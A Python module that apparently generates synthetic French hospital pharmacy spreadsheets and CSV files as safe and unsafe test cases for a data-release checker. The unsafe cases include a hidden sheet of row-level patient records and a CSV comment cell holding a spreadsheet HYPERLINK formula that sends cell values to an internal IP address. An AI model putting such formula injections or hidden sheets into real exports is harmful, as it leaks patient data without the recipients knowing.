"""Pharmacy: Excel workbooks and a file for the national survey, in French."""

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs15.forms import excel, excel_book, fill, number, table

WHO = "patients hospitalisés ayant reçu un anti-infectieux en 2024 (environ 9 800)"
DRUGS = [
    ("J01CR02", "Amoxicilline-acide clavulanique"),
    ("J01CR05", "Pipéracilline-tazobactam"),
    ("J01DD04", "Ceftriaxone"),
    ("J01DD01", "Céfotaxime"),
    ("J01DH02", "Méropénème"),
    ("J01MA12", "Lévofloxacine"),
    ("J01XA01", "Vancomycine"),
    ("J01EE01", "Sulfaméthoxazole-triméthoprime"),
    ("J01XX08", "Linézolide"),
    ("J01GB06", "Amikacine"),
    ("J02AC01", "Fluconazole"),
    ("J02AX04", "Caspofungine"),
]


def write(shelf: Shelf) -> None:
    rng = shelf.random("pharmacy")
    units = ["Médecine", "Chirurgie", "Réanimation", "Hématologie", "SSR", "Urgences"]
    ddd: list[list[object]] = [["Code ATC", "DCI", *units]]
    ddd += [[code, name, *(round(rng.uniform(0.4, 92), 1) for _ in units)] for code, name in DRUGS]
    use: list[list[object]] = [
        ["Code ATC", "DCI", "Patients", "Prescriptions", "Durée médiane (j)", "Q1", "Q3", "% réévaluées à 72 h"]
    ]
    for code, name in DRUGS:
        n = rng.randint(140, 2200)
        use.append(
            [
                code,
                name,
                n,
                n + rng.randint(40, 500),
                rng.randint(4, 8),
                3,
                rng.randint(9, 14),
                round(rng.uniform(55, 88), 1),
            ]
        )
    path = shelf.safe(
        "pharmacie/conso_DDJ_2024.xlsx",
        "defined daily doses per 1000 days, many below ten, count no person",
        "Consommation en DDJ pour 1 000 journées d'hospitalisation par secteur",
        WHO,
    )
    excel(
        path,
        {
            "DDJ par secteur": ddd,
            "Notes": [["Source", "Journées PMSI 2024"], ["Unité", "DDJ / 1 000 JH"], ["Version", 3]],
        },
        "Consommation 2024",
    )
    path = shelf.safe(
        "pharmacie/patients_par_molecule.xlsx",
        "durations of four to eight days next to large numbers of patients",
        "Patients et prescriptions par molécule, 2024",
        WHO,
    )
    excel(path, {"Molécules": use}, "Patients par molécule")

    path = shelf.unsafe(
        "pharmacie/reevaluation_72h.xlsx",
        "a hidden sheet holds the audited records row by row",
        "hidden sheet saisie",
        "Audit de la réévaluation à 72 heures, par molécule",
        "612 prescriptions auditées en 2024, une par patient",
    )
    book = excel_book(path, "Audit 72 h")
    fill(book.add_worksheet("Synthèse"), [use[0], *use[1:8]])
    hidden = book.add_worksheet("saisie")
    fill(
        hidden,
        [
            ["age", "sexe", "uf", "dci", "entree", "reeval"],
            *(
                [
                    rng.randint(19, 88),
                    rng.choice("HF"),
                    rng.randint(2100, 2180),
                    rng.choice(DRUGS)[1],
                    f"2024-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
                    rng.choice(["O", "N"]),
                ]
                for _ in range(60)
            ),
        ],
    )
    hidden.hide()
    book.close()

    cost: list[list[object]] = [
        ["Molécule onéreuse", "Patients traités", "Montant total (euros)", "Part du patient le plus coûteux (%)"]
    ]
    for name in [
        "Immunoglobulines IV",
        "Rituximab",
        "Éculizumab",
        "Emicizumab",
        "Nusinersen",
        "Infliximab",
        "Natalizumab",
        "Védolizumab",
        "Ustékinumab",
    ]:
        n = rng.randint(24, 380)
        cost.append([name, n, n * rng.randint(3100, 9800), round(rng.uniform(2, 11), 1)])
    cost.insert(5, ["Facteur VIII recombinant", 31, 4188240, 88.7])
    path = shelf.unsafe(
        "pharmacie/molecules_onereuses.xlsx",
        "one patient makes 88.7 % of the sum of a drug",
        "row Facteur VIII recombinant",
        "Dépense par molécule onéreuse et concentration de la dépense, 2024",
        "1 460 patients traités par une molécule de la liste en sus",
    )
    excel(path, {"Dépense 2024": cost}, "Liste en sus")

    survey: list[list[object]] = [["service", "patients_presents", "patients_traites", "pct_traites", "commentaire"]]
    for name in [
        "Cardiologie",
        "Gastro-entérologie",
        "Pneumologie",
        "Neurologie",
        "Orthopédie",
        "Urologie",
        "Viscéral",
        "Gériatrie",
        "Maladies infectieuses",
    ]:
        seen = rng.randint(48, 120)
        treated = rng.randint(14, seen - 14)
        survey.append(
            [
                name,
                seen,
                treated,
                number(100 * treated / seen, 1, True),
                rng.choice(["", "relevé en 2 passages", "fiche v4", ""]),
            ]
        )
    path = shelf.safe(
        "pharmacie/enquete_prevalence.csv",
        "two passes and version 4 in the comments",
        "Enquête de prévalence un jour donné, par service",
        "patients présents le jour de l'enquête",
    )
    table(path, survey, ";", "cp1252")
    survey[6][4] = '=HYPERLINK("http://10.2.4.8/p?x="&B3&C3;"détail")'
    path = shelf.unsafe(
        "pharmacie/enquete_prevalence_v2.csv",
        "a formula in a comment sends cells to another machine when opened",
        "row Urologie, commentaire",
        "Enquête de prévalence, version relue par les services",
        "patients présents le jour de l'enquête",
    )
    table(path, survey, ";")
